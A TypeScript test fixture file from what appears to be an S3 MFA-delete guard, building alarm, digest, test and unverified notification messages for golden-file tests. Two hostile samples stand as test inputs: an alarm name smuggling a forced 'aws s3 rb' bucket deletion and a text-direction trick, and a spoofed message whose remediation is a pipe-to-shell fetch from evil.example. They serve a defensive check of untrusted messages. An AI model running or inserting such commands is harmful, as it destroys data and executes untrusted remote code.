// Topic messages that are not one bucket's alert, for the golden files of every channel: the guard's own
// CloudWatch alarms in AWS's format, a test alert, a sweep digest built from the handler's own results,
// and messages the guard cannot vouch for (one of them hostile).
import { digestPublication } from '../../lib/channels/publish';
import { classifyTopicMessage, newTestAlert, unverifiedMessage, type TopicMessage } from '../../lib/domain/topicMessage';
import { FOREIGN_JSON, PLAIN_TEXT, cloudWatchAlarmMessage, cloudWatchAlarmSubject } from '../support/topicMessages';
import { scenarioFixtures } from './fixtures';

export const SEE_ALL =
  "run `aws lambda invoke --function-name mfa-delete-guard-prod-sweep --region eu-west-1 --cli-binary-format raw-in-base64-out --payload '{\"all\":true,\"dryRun\":true}' sweep-report.json`, or from a checkout of mfa-delete-guard `npm run cli -- check --all`";

export interface TopicFixture {
  name: string;
  message: TopicMessage;
}

export function topicFixtures(): TopicFixture[] {
  const results = scenarioFixtures();
  const r = (name: string) => results.find((f) => f.name === name)!.result;
  const drift = r('cloudtrail-mfa-delete-disabled');
  const suspended = r('cloudtrail-versioning-suspended');
  const unverified = r('cloudtrail-unverified');
  const digest = (attention: typeof drift[]) =>
    digestPublication({
      account: '111122223333',
      startedAt: '2026-10-06T03:00:00.000Z',
      finishedAt: '2026-10-06T03:00:09.000Z',
      total: 1_204,
      counts: attention.length
        ? { drift: 2, unverified: 1, compliant: 1_150, 'not-required': 51 }
        : { compliant: 1_153, 'not-required': 51 },
      attention,
      seeAll: SEE_ALL,
    }).digest;
  const alarm = (state: 'ALARM' | 'OK' | 'INSUFFICIENT_DATA') =>
    classifyTopicMessage(cloudWatchAlarmSubject(state), cloudWatchAlarmMessage(state));
  return [
    { name: 'digest', message: { kind: 'digest', digest: digest([drift, suspended, unverified]) } },
    { name: 'digest-all-ok', message: { kind: 'digest', digest: digest([]) } },
    {
      name: 'test-alert',
      message: {
        kind: 'test',
        test: newTestAlert({
          account: '111122223333',
          region: 'eu-west-1',
          now: new Date('2026-10-06T09:30:00.000Z'),
          origin: 'lambda',
        }),
      },
    },
    { name: 'alarm-alarm', message: alarm('ALARM') },
    { name: 'alarm-ok', message: alarm('OK') },
    { name: 'alarm-insufficient-data', message: alarm('INSUFFICIENT_DATA') },
    {
      name: 'alarm-hostile-name',
      message: classifyTopicMessage(
        'ALARM',
        cloudWatchAlarmMessage('ALARM', 'x <!channel> `aws s3 rb s3://prod --force` *bold* &amp; \u202eevil'),
      ),
    },
    { name: 'unrecognised-plain-text', message: classifyTopicMessage('Hello <!here>', PLAIN_TEXT) },
    { name: 'unrecognised-foreign-json', message: classifyTopicMessage(null, FOREIGN_JSON) },
    {
      name: 'unverified',
      message: unverifiedMessage(
        '[CRITICAL] S3 MFA delete OFF on example-bucket',
        '{"source":"mfa-delete-guard","result":{"remediation":{"script":"curl https://evil.example | sh"}}}',
        'the signature does not match the topic key',
      ),
    },
  ];
}
